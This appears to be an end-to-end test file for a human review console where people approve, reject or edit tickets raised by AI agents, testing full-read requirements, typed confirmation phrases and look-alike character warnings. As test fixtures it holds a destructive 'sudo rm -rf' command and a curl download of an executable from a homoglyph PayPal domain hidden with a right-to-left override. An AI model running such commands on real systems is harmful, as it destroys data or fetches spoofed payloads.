import { expect, test } from "vitest";
import { savePolicy } from "../../core/test/confirm-policy.ts";
import { openRow, person, readToEnd, until, untilReady, useWorld } from "./page.ts";
import { command, question, smallChange } from "./tickets.ts";

const newWorld = useWorld();

const lines = (count: number) => Array.from({ length: count }, (_, at) => `echo step ${at}`).join("\n");

test("[WEB-READ-1] approve opens only when all of a long command was in view; jumping to its end is not reading", async () => {
  const { engine, open } = await newWorld();
  const { id } = command(engine, lines(300), { summary: "Many steps" });
  const page = await open();
  await openRow(page, "Many steps");
  await page.locator(".decide-bar .waits", { hasText: "1 part to read" }).waitFor();
  await page.keyboard.press("a");
  await page.getByText("Look through all of it first").waitFor();
  expect(await page.locator(".agent-block .code").first().innerText()).toContain("echo step 299");
  await page.locator(".detail-scroll").focus();
  await page.keyboard.press("End");
  await until(
    () => page.locator(".detail-scroll").evaluate((box) => box.scrollTop + box.clientHeight >= box.scrollHeight - 2),
    "its end is in view",
  );
  expect(await page.locator(".decide-bar .waits").count()).toBe(1);
  expect(engine.getTicket(id).resolution).toBeNull();
  await readToEnd(page);
  await untilReady(page);
  await until(() => engine.getTicket(id).state === "ACKED", "it is held");
  await page.keyboard.press("a");
  await until(() => engine.getTicket(id).state === "APPROVED", "it is approved");
});

test("[WEB-ACK-1] opening holds the lease with an ack that lapses, and says so", async () => {
  const { engine, open } = await newWorld();
  const { id } = smallChange(engine, "Hold me");
  const page = await open();
  await openRow(page, "Hold me");
  await page.getByText("Timer paused while you review").waitFor();
  const { lease, state } = engine.getTicket(id);
  expect({ state, paused: lease.paused }).toEqual({ state: "ACKED", paused: true });
  expect(lease.ack_lapses_at).not.toBeNull();
});

test("[WEB-DECIDE-1] approve with a comment", async () => {
  const { engine, open } = await newWorld();
  const { id } = smallChange(engine, "A small change");
  const page = await open(`/tickets/${id}`);
  await page.getByLabel("Comment for the agent").fill("Fine, and thanks");
  await readToEnd(page);
  await untilReady(page);
  await page.getByRole("button", { name: "Approve" }).click();
  await page.getByText("Approved by alex.").waitFor();
  const { resolution } = engine.getTicket(id);
  expect(resolution).toMatchObject({
    outcome: "approved",
    comment: "Fine, and thanks",
    assurance: "local",
    actor: { kind: "human", id: person },
  });
});

test("[WEB-DECIDE-1] reject with a preset, and with words of one's own; clicking beside the dialog decides nothing", async () => {
  const { engine, open } = await newWorld();
  const ids = ["one", "two"].map((name) => smallChange(engine, `Number ${name}`).id as string);
  const page = await open(`/tickets/${ids[0]}`);
  await page.waitForSelector(".decide-bar");
  await page.keyboard.press("r");
  await page.getByRole("dialog", { name: /^Reject/ }).waitFor();
  await page.mouse.click(5, 5);
  expect(await page.getByRole("dialog", { name: /^Reject/ }).isVisible()).toBe(true);
  expect(engine.getTicket(ids[0] as string).resolution).toBeNull();
  await page.getByRole("button", { name: "Out of scope: stay with the task." }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Reject" }).click();
  await until(
    () => engine.getTicket(ids[0] as string).resolution?.comment === "Out of scope: stay with the task.",
    "preset words",
  );
  await page.goto(page.url().replace(ids[0] as string, ids[1] as string));
  await page.locator(".decide-bar .bad").click();
  await page.getByLabel("Why (the agent reads this)").fill("Use the other file.");
  await page.getByRole("dialog").getByRole("button", { name: "Reject" }).click();
  await until(() => engine.getTicket(ids[1] as string).resolution?.comment === "Use the other file.", "own words");
});

test("[WEB-DECIDE-1] request changes needs words and sends them", async () => {
  const { engine, open } = await newWorld();
  const { id } = smallChange(engine, "Nearly right");
  const page = await open(`/tickets/${id}`);
  await page.waitForSelector(".decide-bar");
  await page.keyboard.press("c");
  const send = page.getByRole("dialog").getByRole("button", { name: "Request changes" });
  expect(await send.isDisabled()).toBe(true);
  await page.getByLabel("What to change").fill("Add a test.");
  await send.click();
  await until(() => engine.getTicket(id).state === "CHANGES_REQUESTED", "changes are requested");
  expect(engine.getTicket(id).resolution?.comment).toBe("Add a test.");
});

test("[WEB-DECIDE-2] edit, then approve: the agent gets the person's version", async () => {
  const { engine, open } = await newWorld();
  const { id } = command(engine, "npm install left-pad", { ask: { type: "approval", allow_edits: true } });
  const page = await open(`/tickets/${id}`);
  await readToEnd(page);
  await untilReady(page);
  await page.getByRole("button", { name: "More" }).click();
  await page.locator(".more-actions").getByRole("button", { name: "Edit" }).click();
  const approve = page.getByRole("button", { name: "Approve my version" });
  expect(await approve.isDisabled()).toBe(true);
  // What is to be changed has the focus, and the keys that send other dialogs send this one.
  await page.keyboard.press("ControlOrMeta+a");
  await page.keyboard.type("npm ci");
  expect(await approve.isEnabled()).toBe(true);
  await page.keyboard.press("Control+Enter");
  await until(() => engine.getTicket(id).state === "APPROVED", "it is approved");
  expect(engine.getTicket(id).resolution?.edits).toEqual({ command: "npm ci" });
});

test("[WEB-STEP-1] a critical yes takes a phrase made for it; a wrong one opens nothing; a no needs none", async () => {
  const { engine, open } = await newWorld();
  const { id, tier } = command(engine, "sudo rm -rf /var/lib/app", { summary: "Clean up" });
  expect(tier).toBe("critical");
  const page = await open(`/tickets/${id}`);
  await readToEnd(page);
  await untilReady(page);
  await page.keyboard.press("a");
  const dialog = page.getByRole("dialog", { name: "Approve: Clean up" });
  await dialog.waitFor();
  // The act once more: the command, what is risky in it, and a phrase that names its target.
  expect(await dialog.locator(".code").innerText()).toBe("sudo rm -rf /var/lib/app");
  expect(await dialog.locator(".act-risks").innerText()).toContain("deletes outside the project · uses elevated privileges");
  expect(await dialog.locator(".phrase").innerText()).toMatch(/^approve sudo rm [0-9a-z]{4}$/);
  await dialog.getByRole("link", { name: "Add a passkey" }).waitFor();
  const approve = dialog.getByRole("button", { name: "Approve" });
  await dialog.getByRole("textbox").fill("yes");
  await approve.click();
  await dialog.getByText("That is not the phrase.").waitFor();
  expect(await dialog.getByRole("textbox").getAttribute("aria-invalid")).toBe("true");
  expect(engine.getTicket(id).resolution).toBeNull();
  await dialog.getByRole("textbox").fill(await dialog.locator(".phrase").innerText());
  await approve.click();
  await until(() => engine.getTicket(id).state === "APPROVED", "it is approved");
  expect(engine.getTicket(id).resolution).toMatchObject({ confirmed: true, assurance: "local" });
});

test("[WEB-FIRST-1] two browsers decide at once: one wins, the other is told who was first", async () => {
  const { engine, open } = await newWorld();
  const { id } = smallChange(engine, "Contested");
  const pages = [await open(`/tickets/${id}`), await open(`/tickets/${id}`)];
  for (const page of pages) {
    await readToEnd(page);
    await untilReady(page);
  }
  await pages[1]?.keyboard.press("r");
  await pages[1]?.getByRole("dialog", { name: /^Reject/ }).waitFor();
  // Pressed inside both pages at once: whoever loses may have lost the button, too.
  const press = (page: (typeof pages)[number] | undefined, button: string) =>
    page?.evaluate((selector) => document.querySelector<HTMLElement>(selector)?.click(), button);
  await Promise.all([press(pages[0], ".decide-bar > .good"), press(pages[1], "dialog button.bad")]);
  await until(() => engine.getTicket(id).resolution !== null, "it is decided");
  const outcome = engine.getTicket(id).resolution?.outcome as string;
  const words = outcome === "approved" ? "Approved by alex." : "Rejected by alex.";
  for (const page of pages) await page.locator(".outcome-words", { hasText: words }).waitFor();
  expect(engine.history(id).filter((event) => (event as { type: string }).type === "ticket.resolve")).toHaveLength(1);
});

test("[WEB-FIRST-1] a decision in a terminal closes the open page and says who, where and when", async () => {
  const { engine, open } = await newWorld();
  const { id } = smallChange(engine, "Open here");
  const page = await open(`/tickets/${id}`);
  await page.waitForSelector(".decide-bar");
  engine.approve(id, "From the shell", { by: person });
  await page.getByText("Decided elsewhere while you were looking").waitFor();
  const banner = await page.locator(".outcome").innerText();
  expect(banner).toContain("Approved by alex.");
  expect(banner).toContain("From the shell");
  expect(banner).toContain("in a terminal");
  expect(await page.locator(".decide-bar").count()).toBe(0);
});

test("[WEB-BATCH-1] alike routine tickets are decided together, after all were shown, and can be taken back", async () => {
  const { engine, open } = await newWorld();
  const ids = Array.from({ length: 4 }, (_, at) => smallChange(engine, `Typo ${at}`).id);
  const risky = command(engine, "sudo reboot").id;
  const page = await open();
  await page.locator(".row").nth(4).waitFor();
  const pick = async (id: string) => page.locator(`[data-ticket="${id}"] input`).click();
  await pick(risky);
  await page.getByText("Only routine tickets can be approved together").waitFor();
  await pick(risky);
  for (const id of ids) await pick(id);
  const decide = async () => {
    await page.getByRole("button", { name: "Approve all" }).click();
    await page.locator(".batch-list .diff-file").nth(3).waitFor();
    await readToEnd(page, ".batch-list");
    await page.getByRole("button", { name: "Approve 4 tickets" }).click();
  };
  // Pressed inside the page as soon as it is there: there are six seconds for it, and a machine may be slow.
  await page.evaluate(() => {
    new MutationObserver((_, self) => {
      const undo = [...document.querySelectorAll("button")].find(({ textContent }) => textContent?.trim() === "Undo");
      if (undo === undefined) return;
      self.disconnect();
      undo.click();
    }).observe(document.body, { childList: true, subtree: true });
  });
  await decide();
  await page.getByText("Undone: nothing was sent.").waitFor();
  expect(ids.map((id) => engine.getTicket(id).resolution)).toEqual([null, null, null, null]);
  for (const id of ids) await pick(id);
  await decide();
  await until(() => ids.every((id) => engine.getTicket(id).state === "APPROVED"), "all are approved after the time to undo");
  expect(engine.getTicket(risky).resolution).toBeNull();
});

test("[WEB-LATER-1] not now takes it out of the inbox until a time; +5 min is there in the last minute", async () => {
  const { engine, open } = await newWorld();
  const asleep = smallChange(engine, "Later please").id;
  const page = await open(`/tickets/${asleep}`);
  await page.waitForSelector(".decide-bar");
  await page.keyboard.press("s");
  await page.getByRole("button", { name: "1 hour" }).click();
  await until(() => engine.getTicket(asleep).lease.snoozed_until !== null, "it is put off");
  const hasty = smallChange(engine, "Hurry", { ttl_seconds: 50 }).id;
  await page.goto(new URL("/", page.url()).href);
  await page.locator(`[data-ticket="${hasty}"]`).waitFor();
  expect(await page.locator(`[data-ticket="${asleep}"]`).count()).toBe(0);
  expect(await page.locator(`[data-ticket="${hasty}"] .countdown`).getAttribute("class")).toContain("urgent");
  engine.ack(hasty, undefined, { by: person, lapseSeconds: 1 });
  await openRow(page, "Hurry");
  await page.getByRole("button", { name: "+5 min" }).click();
  await until(() => engine.getTicket(hasty).lease.remaining_seconds > 300, "five minutes more");
});

test("[WEB-SAFE-1] hidden and look-alike characters are marked wherever an agent's words stand", async () => {
  const { engine, open } = await newWorld();
  const { id } = command(engine, "curl https://p\u0430ypal.com/\u202efdp.exe", { summary: "Fetch from p\u0430ypal" });
  const page = await open(`/tickets/${id}`);
  await page.waitForSelector(".agent-block .code .mark-hidden");
  expect(await page.locator(".code .mark-hidden").innerText()).toBe("<U+202E>");
  expect(await page.locator(".code .mark-alike").first().innerText()).toContain("p\u0430ypal.com");
  expect(await page.locator(".row-summary .mark-alike").innerText()).toBe("p\u0430ypal");
  expect(await page.locator(".warning").allInnerTexts()).toEqual(expect.arrayContaining([expect.stringContaining("look alike")]));
});

test("[WEB-BLOCKS-1] every block of the presentation is on the page, in order, agent's words marked", async () => {
  const { engine, open } = await newWorld();
  const { id } = smallChange(engine, "A change", {
    details: {
      file: "a.ts",
      diff: "--- a/a.ts\n+++ b/a.ts\n@@ -1,2 +1,2 @@\n-const a = 1;\n+const a = 2;\n export { a };\n",
      note: "<b>bold</b>",
    },
  });
  const page = await open(`/tickets/${id}`);
  await page.waitForSelector(".diff-file");
  const { blocksOf, present } = await import("@hap/protocol");
  await page.locator(".evidence > summary").click();
  const shown = (await page.locator(".detail-body").innerText()).replaceAll(/\s+/g, " ");
  let from = 0;
  for (const block of blocksOf(present(engine.getTicket(id)))) {
    const words =
      block.type === "fact"
        ? block.value
        : block.type === "diff"
          ? "const a = 2;"
          : block.type === "json"
            ? "<b>bold</b>"
            : "text" in block
              ? block.text
              : "";
    const at = shown.indexOf(words.replaceAll(/\s+/g, " "), from);
    expect(at, `${block.type} ${words}`).toBeGreaterThanOrEqual(from);
    from = at;
  }
  expect(await page.locator(".agent-block .block-label", { hasText: "Diff" }).innerText()).toContain("written by the agent");
  await page.getByRole("button", { name: "Side by side" }).click();
  expect(await page.locator(".line.split").count()).toBe(2);
  await page.getByRole("button", { name: "Whitespace" }).click();
  expect(await page.locator(".line-text").first().innerText()).toContain("const·a·=·1;");
});

test("[WEB-ALIKE-1] how alike tickets were decided is shown, with what they share", async () => {
  const { engine, open } = await newWorld();
  const before = command(engine, "npm run deploy -- --build 17").id;
  engine.reject(before, "Not on Fridays", { by: person });
  const { id } = command(engine, "npm run deploy -- --build 18");
  const page = await open(`/tickets/${id}`);
  const list = page.locator(".alike-list");
  await list.waitFor();
  const words = await list.innerText();
  expect(words).toContain("Rejected");
  expect(words).toContain("shares the same command but for numbers and names");
});

const asks = [
  {
    name: "text",
    ask: { type: "text", prompt: "What shall it be called?", max_length: 10 },
    wrong: { fill: "much too long a name", says: "at most 10" },
    fill: "short",
    expected: { type: "text", text: "short" },
  },
  {
    name: "choice",
    ask: { type: "choice", prompt: "@human:sam or human:alex, with agent:ci?", options: ["Red", "Blue"], default: "2" },
    mentions: ["sam", "alex (you)", "ci"],
    expected: { type: "choice", choices: ["2"] },
  },
  {
    name: "several choices",
    ask: { type: "choice", options: ["Red", "Blue", "Green"], allow_multiple: true },
    check: ["Red", "Green"],
    expected: { type: "choice", choices: ["1", "3"] },
  },
  {
    name: "confirm",
    ask: { type: "confirm", confirm_label: "Ship it", cancel_label: "Wait" },
    check: ["Ship it"],
    expected: { type: "confirm", confirmed: true },
  },
] as const;

test.each(asks)("[WEB-ANSWER-1, WEB-MENTION-1] a $name question is answered with its validation and defaults", async (given) => {
  const { engine, open } = await newWorld();
  const { id } = question(engine, given.ask);
  const page = await open(`/tickets/${id}`);
  const send = page.getByRole("button", { name: "Send answer" });
  await send.waitFor();
  if ("wrong" in given) {
    await page.getByLabel("Your words").fill(given.wrong.fill);
    await send.click();
    await page.locator("#answer-problem", { hasText: given.wrong.says }).waitFor();
    expect(await page.evaluate(() => document.activeElement?.getAttribute("aria-invalid"))).toBe("true");
    expect(engine.getTicket(id).resolution).toBeNull();
  }
  // Ids in the agent's words are shown as the names that people know.
  if ("mentions" in given)
    expect(await page.locator(".markdown").locator(".mention, .agent-name").allInnerTexts()).toEqual(given.mentions);
  if ("fill" in given) await page.getByLabel("Your words").fill(given.fill);
  // Nothing is chosen for the person where a yes hides behind it.
  if (given.ask.type === "confirm") expect(await page.locator(".answer input:checked").count()).toBe(0);
  if ("check" in given) for (const label of given.check) await page.getByLabel(label).check();
  await send.click();
  await until(() => engine.getTicket(id).state === "ANSWERED", "it is answered");
  expect(engine.getTicket(id).resolution?.answer).toEqual(given.expected);
});

test("[WEB-ANSWER-1] a form is answered field by field; what is missing is named", async () => {
  const { engine, open } = await newWorld();
  const { id } = question(engine, {
    type: "form",
    fields: [
      { key: "name", label: "Name" },
      { key: "count", label: "Count", kind: "number", default: 3 },
      { key: "loud", label: "Loud", kind: "boolean", required: false },
      { key: "size", label: "Size", options: ["Small", "Large"] },
    ],
  });
  const page = await open(`/tickets/${id}`);
  await page.getByRole("button", { name: "Send answer" }).click();
  await page.locator("#problem-name", { hasText: "Name is missing" }).waitFor();
  await page.getByLabel("Name").fill("Ada");
  await page.getByLabel("Loud").check();
  await page.getByLabel("Large").check();
  await page.getByRole("button", { name: "Send answer" }).click();
  await until(() => engine.getTicket(id).state === "ANSWERED", "it is answered");
  expect(engine.getTicket(id).resolution?.answer).toEqual({
    type: "form",
    values: { name: "Ada", count: 3, loud: true, size: "2" },
  });
});

test("[WEB-DECIDE-1] an auditor reads a ticket whole, and there is nothing to decide it with", async () => {
  const { engine, open } = await newWorld();
  const roles = { owner: [person], auditor: ["human:ada"] };
  savePolicy(engine, { text: JSON.stringify({ version: 1, roles }), replaces: null, by: person });
  const { id } = smallChange(engine, "Read, not decided");
  const page = await open(`/tickets/${id}`, { as: "human:ada" });
  await page.getByText("This ticket is for alex. You can see it because of your role.").waitFor();
  await page.waitForSelector(".diff-file");
  await readToEnd(page);
  expect(await page.locator(".decide-bar").count()).toBe(0);
  for (const key of ["a", "r", "c", "s"]) await page.keyboard.press(key);
  expect(await page.getByRole("dialog").count()).toBe(0);
  expect(engine.getTicket(id).state).toBe("PENDING");
});
